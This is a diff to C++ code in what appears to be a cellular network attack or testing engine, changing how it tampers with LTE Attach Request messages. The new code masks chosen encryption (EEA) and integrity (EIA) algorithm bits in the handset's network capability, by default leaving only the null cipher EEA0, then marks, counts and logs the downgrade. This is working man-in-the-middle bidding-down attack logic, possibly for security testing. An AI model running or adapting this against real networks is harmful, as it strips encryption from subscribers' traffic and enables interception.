@@ -183,22 +183,35 @@ void Engine::Impl::attackLink(Link link, bool downlink, Bytes& bytes, Meta& meta
             const ByteView nas = ByteView(bytes).subspan(*nasAt);
             if (!downlink && nas.size() > 8 && nas[0] == kPdEmm &&
                 nas[1] == static_cast<std::uint8_t>(EmmType::AttachRequest)) {
-                // UE network capability: after octet 3 and the LV IMSI; strip 128-EEA1/2/3, keep EEA0 only.
+                // UE network capability: after octet 3 and the LV IMSI; the chosen algorithms removed (by
+                // default 128-EEA1/2/3, leaving EEA0 only). Nothing to remove: no attempt.
                 const std::size_t capsLength = *nasAt + 4 + nas[3];
-                if (capsLength + 2 >= bytes.size() || bytes[capsLength] < 2 || bytes[capsLength + 1] == 0x80)
+                if (capsLength + 2 >= bytes.size() || bytes[capsLength] < 2 ||
+                    ((bytes[capsLength + 1] & spec.strip.eea) == 0 &&
+                     (bytes[capsLength + 2] & spec.strip.eia) == 0))
                     break;
                 const Bytes before = bytes;
                 a.originalCapabilities[meta.device] = {bytes[capsLength + 1], bytes[capsLength + 2]};
-                bytes[capsLength + 1] = 0x80;
+                bytes[capsLength + 1] = static_cast<std::uint8_t>(bytes[capsLength + 1] & ~spec.strip.eea);
+                bytes[capsLength + 2] = static_cast<std::uint8_t>(bytes[capsLength + 2] & ~spec.strip.eia);
                 ue[meta.device].downgradeAttack = index;
                 meta.attack = index;
                 meta.mark = Mark::Downgraded;
                 meta.initialAttach = true;
                 ++t.attempts;
                 ++t.signallingAttempts;
+                const auto change = [&](const char* family, std::size_t at) {
+                    return before[at] == bytes[at]
+                               ? std::string()
+                               : std::string(family) + " " + toHex(ByteView(before).subspan(at, 1)) + " -> " +
+                                     toHex(ByteView(bytes).subspan(at, 1));
+                };
+                const std::string eeaChange = change("EEA", capsLength + 1);
+                const std::string eiaChange = change("EIA", capsLength + 2);
                 addExample(a, meta.device, true,
-                           "Attach Request: UE network capability EEA " +
-                               toHex(ByteView(before).subspan(capsLength + 1, 1)) + " -> 80 (EEA0 only)",
+                           "Attach Request: UE network capability " + eeaChange +
+                               (eeaChange.empty() || eiaChange.empty() ? "" : ", ") + eiaChange +
+                               (bytes[capsLength + 1] == 0x80 && !eeaChange.empty() ? " (EEA0 only)" : ""),
                            before, bytes);
                 log(EventKind::AttackDowngrade, placeOf(link), meta.device, 0, 0, index, pduId);
             } else if (downlink && nas.size() >= 13 && (nas[0] >> 4) == kShtIntegrityNewContext &&
